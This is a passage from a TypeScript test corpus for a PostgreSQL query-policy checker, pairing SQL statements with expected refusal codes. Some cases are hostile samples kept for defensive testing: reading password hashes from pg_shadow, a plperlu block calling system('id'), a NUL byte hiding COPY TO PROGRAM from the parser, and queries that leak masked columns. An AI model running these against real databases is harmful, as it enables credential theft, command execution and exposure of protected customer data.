on("full", "catalog_denied", "CREATE FUNCTION pwn() RETURNS SETOF text LANGUAGE sql AS 'SELECT passwd FROM pg_shadow'");
on("full", "code_creation",
  "ALTER FUNCTION add_one(int) SECURITY DEFINER",
  "CREATE FUNCTION pwn() RETURNS int LANGUAGE plperl AS 'return 1'",
  "CREATE FUNCTION pwn() RETURNS int LANGUAGE internal AS 'int4inc'",
  "CREATE FUNCTION pwn() RETURNS int LANGUAGE plpgsql AS $$ BEGIN FOR undeclared IN SELECT 1 LOOP END LOOP; RETURN 1; END $$",
);
on("full", "do_block", "DO LANGUAGE plperlu $$ system('id') $$");
on("full", "deferred_code",
  "CREATE TRIGGER t BEFORE INSERT ON album FOR EACH ROW EXECUTE FUNCTION bump_genre()",
  "CREATE RULE r AS ON INSERT TO album DO ALSO DELETE FROM genre",
  "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
  "DO $$ BEGIN CREATE TRIGGER t BEFORE INSERT ON album FOR EACH ROW EXECUTE FUNCTION bump_genre(); END $$",
);
// Expressions that run later as whoever writes, indexes or analyses the table: no user functions there.
on("full", "deferred_code",
  "CREATE TABLE t (a int DEFAULT add_one(1))",
  "CREATE TABLE t (a int DEFAULT not_created_yet())",
  "ALTER TABLE album ALTER COLUMN title SET DEFAULT album_title(1)",
  "ALTER TABLE album ADD COLUMN n int DEFAULT public.add_one(1)",
  "ALTER TABLE album ADD CONSTRAINT c CHECK (bump_genre() > 0)",
  "CREATE TABLE t (a int, b int GENERATED ALWAYS AS (add_one(a)) STORED)",
  "CREATE INDEX ON track (add_one(milliseconds))",
  "CREATE INDEX ON track (album_id) WHERE add_one(album_id) > 0",
  "CREATE DOMAIN d AS int CHECK (add_one(VALUE) > 0)",
  "CREATE STATISTICS s ON (add_one(milliseconds)), album_id FROM track",
  "CREATE TABLE p (a int) PARTITION BY RANGE (add_one(a))",
  "CREATE TABLE t (a int CHECK (a === 1))",
  "DO $$ BEGIN CREATE INDEX ON track (add_one(milliseconds)); END $$",
);
on("custom", "deferred_code", "ALTER TABLE genre ADD CONSTRAINT c CHECK (add_one(genre_id) > 0)");
on("full", "ok",
  "CREATE TABLE t2 (a int DEFAULT 1 CHECK (a > 0), b text DEFAULT lower('X'), c timestamptz DEFAULT now(), d uuid DEFAULT gen_random_uuid())",
  "CREATE INDEX ON track (lower(name))",
  "ALTER TABLE album ALTER COLUMN title SET DEFAULT 'untitled'",
  "CREATE TABLE t3 (a int, b int GENERATED ALWAYS AS (a * 2) STORED)",
);
// A NUL byte: the parser stops at it, so the checker would see only the text before it.
onAll("control_character", "SELECT 1\u0000; COPY album TO PROGRAM 'id'", "SELECT title FROM album\u0000", "\u0000DROP TABLE album");
onAll("invalid_text", "SELECT '\ud800' AS x", "SELECT 1 AS \"\udc00\"");

// ------------------------------------------------------------------ issue 14 (slice S): fewer false refusals, each with refusing twins
// FOR UPDATE/SHARE: a write, allowed when the link may write every locked relation (all of FROM, or OF's).
on(["full", "adminHiding"], "ok",
  "SELECT * FROM album FOR UPDATE",
  "SELECT title FROM album FOR SHARE SKIP LOCKED",
  "SELECT title FROM album FOR NO KEY UPDATE NOWAIT",
  "SELECT * FROM (SELECT * FROM album FOR UPDATE) x",
  "SELECT t.name FROM track t JOIN album a USING (album_id) FOR KEY SHARE OF t",
);
on(["read", "open", "write", "custom"], "row_locking",
  "SELECT * FROM album FOR UPDATE",
  "SELECT title FROM album FOR SHARE SKIP LOCKED",
  "SELECT title FROM album FOR NO KEY UPDATE NOWAIT",
  "SELECT * FROM (SELECT * FROM album FOR UPDATE) x",
);
on("write", "ok",
  "SELECT invoice_id FROM invoice WHERE invoice_id = 1 FOR UPDATE",
  "SELECT i.invoice_id, il.quantity FROM invoice i JOIN invoice_line il USING (invoice_id) FOR NO KEY UPDATE",
  "SELECT i.invoice_id FROM invoice i JOIN album a ON a.album_id = i.invoice_id FOR UPDATE OF i",
  "SELECT s.invoice_id FROM (SELECT invoice_id FROM invoice) s FOR SHARE OF s",
  "SELECT invoice_id FROM invoice WHERE customer_id IN (SELECT customer_id FROM album) FOR UPDATE",
  "WITH l AS (SELECT invoice_id FROM invoice FOR UPDATE) SELECT * FROM l",
);
on("write", "row_locking",
  // album is read-only here: locked because FROM names it and no OF list narrows the lock.
  "SELECT i.invoice_id FROM invoice i JOIN album a ON a.album_id = i.invoice_id FOR UPDATE",
  "SELECT i.invoice_id FROM invoice i JOIN album a ON a.album_id = i.invoice_id FOR UPDATE OF a",
  "SELECT s.invoice_id FROM (SELECT i.invoice_id FROM invoice i JOIN album a ON a.album_id = i.invoice_id) s FOR SHARE OF s",
  // A view locks the rows of the tables it reads.
  "SELECT * FROM invoice_totals FOR UPDATE",
  "SELECT i.invoice_id FROM invoice i, (SELECT 1 FROM track) t FOR KEY SHARE",
);
// Governed tables (row filter, masks) are read through the rewrite's source: no row locks on them.
on("governed", "row_locking",
  "SELECT customer_id FROM customer FOR UPDATE",
  "SELECT invoice_id FROM invoice WHERE invoice_id = 1 FOR NO KEY UPDATE",
  "SELECT i.invoice_id FROM invoice i JOIN customer c USING (customer_id) FOR UPDATE OF c",
);
// VACUUM / ANALYZE (not FULL) of tables the link administers; a class "utility" statement.
on("full", "ok",
  "VACUUM album",
  "ANALYZE album",
  "VACUUM (ANALYZE, VERBOSE) album (title), artist",
  "ANALYZE VERBOSE track (name, milliseconds)",
  "VACUUM (SKIP_LOCKED, DISABLE_PAGE_SKIPPING) genre",
  "VACUUM note",
  "VACUUM",
  "ANALYZE",
);
on("adminHiding", "ok", "VACUUM album", "ANALYZE track (name)", "VACUUM (ANALYZE) ONLY album");
on("custom", "ok", "ANALYZE genre", "VACUUM (ANALYZE) genre (name)");
on("full", "maintenance",
  "VACUUM FULL album",
  "VACUUM (FULL) album",
  "VACUUM (ONLY_DATABASE_STATS)",
  "VACUUM pg_class",
  "ANALYZE pg_catalog.pg_statistic",
  "CLUSTER album",
);
on(["read", "open", "write"], "maintenance", "VACUUM album", "ANALYZE album", "ANALYZE invoice", "VACUUM", "ANALYZE");
on("custom", "maintenance", "VACUUM track", "ANALYZE", "VACUUM VERBOSE genre");
on("adminHiding", "maintenance",
  "VACUUM", // every table, hidden ones included
  "ANALYZE",
  "VACUUM VERBOSE album",
  "ANALYZE (VERBOSE) track",
);
on("adminHiding", "undefined_table", "VACUUM employee", "ANALYZE employee");
on("adminHiding", "undefined_column", "ANALYZE customer (email)");
on("full", "undefined_column", "ANALYZE album (no_such_column)");
// EXPLAIN ANALYZE of a write the admin link may run (explain_query rolls it back).
on(["full", "adminHiding"], "ok",
  "EXPLAIN ANALYZE DELETE FROM invoice_line WHERE false",
  "EXPLAIN ANALYZE WITH d AS (DELETE FROM invoice_line WHERE false RETURNING 1) SELECT * FROM d",
  "EXPLAIN (ANALYZE, BUFFERS) UPDATE genre SET name = name WHERE genre_id = 1",
  "EXPLAIN (ANALYZE, FORMAT JSON) INSERT INTO genre (genre_id, name) VALUES (1000, 'x')",
);
on("write", "explain_analyze", "EXPLAIN (ANALYZE, BUFFERS) UPDATE invoice SET total = total WHERE false", "EXPLAIN ANALYZE INSERT INTO invoice_line (invoice_line_id) VALUES (1)");
on("full", "explain_analyze", "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1", "EXPLAIN ANALYZE CREATE MATERIALIZED VIEW m AS SELECT 1");
on("adminHiding", "undefined_table", "EXPLAIN ANALYZE DELETE FROM employee");
on("adminHiding", "explain_verbose", "EXPLAIN (ANALYZE, VERBOSE) DELETE FROM album WHERE false");
// CREATE EXTENSION: untrusted extensions, and every extension on links that hide something or are not admin.
on("full", "create_extension",
  "CREATE EXTENSION dblink",
  "CREATE EXTENSION IF NOT EXISTS file_fdw",
  "ALTER EXTENSION plpgsql UPDATE",
);
on(["read", "write", "custom", "adminHiding"], "create_extension", "CREATE EXTENSION pg_trgm", "CREATE EXTENSION IF NOT EXISTS citext");
on("full", "create_extension",
  "CREATE EXTENSION pg_trgm CASCADE",
  "CREATE EXTENSION pg_trgm SCHEMA pg_catalog",
  "CREATE EXTENSION hstore WITH SCHEMA information_schema",
  "CREATE EXTENSION no_such_extension",
  "DO $$ BEGIN CREATE EXTENSION dblink; END $$",
);
// Trusted extensions (pg_available_extension_versions.trusted for every version) on a full link.
on("full", "ok",
  "CREATE EXTENSION pg_trgm",
  "CREATE EXTENSION IF NOT EXISTS citext",
  "CREATE EXTENSION hstore WITH SCHEMA public",
  "CREATE EXTENSION pgcrypto VERSION '1.3'",
  "DO $$ BEGIN CREATE EXTENSION IF NOT EXISTS pg_trgm; END $$",
);

// ------------------------------------------------------------------ issue 14: row filters and masks (governed scopes)
// customer: support_rep_id = {{member.attr.rep_id}}, email/phone/fax/company masked; invoice:
// billing_country = {{member.attr.country}}; both writable on `governed`, read-only on `governedRead`.
const NEW_CUSTOMER = "INSERT INTO customer (customer_id, first_name, last_name, email, support_rep_id)";
on(["governed", "governedRead"], "ok",
  "SELECT * FROM customer",
  "SELECT email, count(*) FROM customer GROUP BY email ORDER BY email",
  "SELECT * FROM customer WHERE email LIKE '%gmail%'",
  "SELECT c.first_name, sum(i.total) FROM customer c JOIN invoice i USING (customer_id) GROUP BY 1",
  "SELECT * FROM customer c WHERE EXISTS (SELECT 1 FROM invoice i WHERE i.customer_id = c.customer_id)",
  "WITH c AS (SELECT company FROM customer) SELECT company, count(*) FROM c GROUP BY 1",
  "SELECT customer_id FROM customer UNION SELECT customer_id FROM invoice",
  "SELECT row_to_json(c) FROM customer c",
  "SELECT * FROM customer_names",
  "SELECT * FROM customer_contacts",
  "SELECT public.customer.email FROM public.customer",
  "EXPLAIN SELECT email FROM customer",
  "EXPLAIN SELECT * FROM invoice WHERE total > 1",
  "SELECT relname FROM pg_class WHERE relname = 'customer'",
  "SELECT column_name FROM information_schema.columns WHERE table_name = 'customer'",
);
on("governed", "ok",
  "UPDATE customer SET city = 'x' WHERE country = 'USA'",
  "UPDATE invoice SET total = total + 1 WHERE invoice_id < 10 RETURNING invoice_id, total",
  "UPDATE invoice i SET total = 1 FROM customer c WHERE c.customer_id = i.customer_id RETURNING i.invoice_id",
  "DELETE FROM customer WHERE customer_id = 16",
  "WITH x AS (DELETE FROM invoice WHERE invoice_id = -1 RETURNING invoice_id) SELECT * FROM x",
  `${NEW_CUSTOMER} VALUES (100, 'a', 'b', 'c@d.e', 3)`,
  `${NEW_CUSTOMER} VALUES (1, 'a', 'b', 'c@d.e', 3) ON CONFLICT (customer_id) DO UPDATE SET first_name = excluded.first_name`,
  `${NEW_CUSTOMER} VALUES (1, 'a', 'b', 'c@d.e', 3) ON CONFLICT DO NOTHING`,
  `WITH s AS (SELECT 3 AS r) ${NEW_CUSTOMER} SELECT 101, 'a', 'b', 'x@y.z', r FROM s RETURNING customer_id`,
  "INSERT INTO invoice (invoice_id, customer_id, invoice_date, total, billing_country) VALUES (1000, 1, '2026-01-01', 1, 'USA')",
  "EXPLAIN UPDATE customer SET city = 'x'",
  // Writing INTO a masked column reads nothing; RETURNING it returns the masked value.
  "UPDATE customer SET email = 'x@y.z' WHERE customer_id = 1",
  "UPDATE customer SET phone = NULL WHERE country = 'USA'",
  `${NEW_CUSTOMER} VALUES (1, 'a', 'b', 'c@d.e', 3) ON CONFLICT (customer_id) DO UPDATE SET email = excluded.email`,
  "UPDATE customer SET city = 'x' WHERE customer_id IN (SELECT customer_id FROM customer WHERE email LIKE '%gmail%')",
  "UPDATE customer SET city = 'x' RETURNING email, phone, upper(company)",
  "UPDATE customer SET city = 'x' WHERE customer_id = 1 RETURNING *",
);
// A write may not produce a row outside the filter, and where that cannot be checked it is refused.
on("governed", "row_filter_violation",
  "MERGE INTO customer c USING (SELECT 1 AS id) s ON c.customer_id = s.id WHEN MATCHED THEN UPDATE SET city = 'x'",
  "MERGE INTO invoice i USING invoice_line l ON l.invoice_id = i.invoice_id WHEN MATCHED THEN DELETE",
  `WITH x AS (${NEW_CUSTOMER} VALUES (100, 'a', 'b', 'c@d.e', 3) RETURNING customer_id) SELECT * FROM x`,
  "WITH x AS (UPDATE invoice SET total = 1 RETURNING invoice_id) SELECT count(*) FROM x",
  "UPDATE invoice i SET total = 1 FROM customer c WHERE c.customer_id = i.customer_id RETURNING *",
);
// A write's own clauses see the target's clear values: a masked column there is an oracle or a copy.
on("governed", "masked_column_oracle",
  "UPDATE customer SET city = 'x' WHERE email = 'a@b.c'",
  "UPDATE customer SET first_name = email",
  "UPDATE customer SET email = lower(email)",
  "UPDATE customer SET (city, state) = (SELECT email, phone)",
  "DELETE FROM customer WHERE phone LIKE '%5'",
  "DELETE FROM customer c WHERE c.fax IS NULL",
  "UPDATE customer SET city = 'x' WHERE customer::text LIKE '%gmail%'",
  "UPDATE customer c SET city = 'x' FROM invoice i WHERE i.customer_id = c.customer_id AND c.email LIKE 'a%'",
  "UPDATE customer SET city = 'x' WHERE EXISTS (SELECT 1 FROM invoice i WHERE i.customer_id = customer.customer_id AND customer.email LIKE 'a%')",
  `${NEW_CUSTOMER} VALUES (1, 'a', 'b', 'c@d.e', 3) ON CONFLICT (customer_id) DO UPDATE SET first_name = customer.email`,
  `${NEW_CUSTOMER} VALUES (1, 'a', 'b', 'c@d.e', 3) ON CONFLICT (customer_id) DO UPDATE SET city = 'x' WHERE customer.company = 'Apple'`,
  "MERGE INTO customer c USING (SELECT 1 AS id) s ON c.email = 'x' WHEN MATCHED THEN UPDATE SET city = 'x'",
  "UPDATE customer SET city = 'x' RETURNING customer",
  "UPDATE customer c SET city = 'x' FROM invoice i WHERE i.customer_id = c.customer_id RETURNING *",
);
on(["governed", "governedRead"], "row_filter_view", "SELECT * FROM invoice_totals", "SELECT total FROM invoice_totals WHERE customer_id = 1");
on(["governed", "governedRead"], "catalog_unanswerable", "SELECT pg_get_viewdef(16385)", "SELECT obj_description(16385)");
// A plan of a hash-masked column would print the mask's key as a constant.
on(["governed", "governedRead"], "rewrite_failed", "EXPLAIN SELECT company FROM customer", "EXPLAIN SELECT * FROM customer");
on(["governed", "governedRead"], "row_locking", "SELECT * FROM customer FOR UPDATE");
on(["governed", "governedRead"], "function_unverified", "SELECT customer_email(1)");
on("governedRead", "write_not_permitted", "UPDATE customer SET city = 'x'", `${NEW_CUSTOMER} VALUES (100, 'a', 'b', 'c@d.e', 3)`);
// Fix slice P: a named constraint may cover a masked column (the catalog does not say which).
on("governed", "masked_column_oracle",
  `${NEW_CUSTOMER} VALUES (999, 'a', 'b', 'x@y.z', 3) ON CONFLICT ON CONSTRAINT customer_pkey DO UPDATE SET city = 'x'`,
  `${NEW_CUSTOMER} VALUES (999, 'a', 'b', 'x@y.z', 3) ON CONFLICT ON CONSTRAINT customer_pkey DO NOTHING`,
);
// …and the write oracles of the attacker review are allowed: their conditions run only inside the filter (rewrite-oracle.int).
on("governed", "ok",
  "UPDATE customer SET city = city WHERE (100 / ('[2:2][5:5]={{0}}'::int[])[customer_id][support_rep_id]) IS NULL",
  "DELETE FROM customer WHERE customer_id = 2 AND address::int IS NULL",
  "INSERT INTO invoice (invoice_id, customer_id, invoice_date, billing_country, total) VALUES (1, 1, now(), 'USA', 1) ON CONFLICT ON CONSTRAINT invoice_pkey DO UPDATE SET total = 1",
);

export const CORPUS: readonly Case[] = cases;
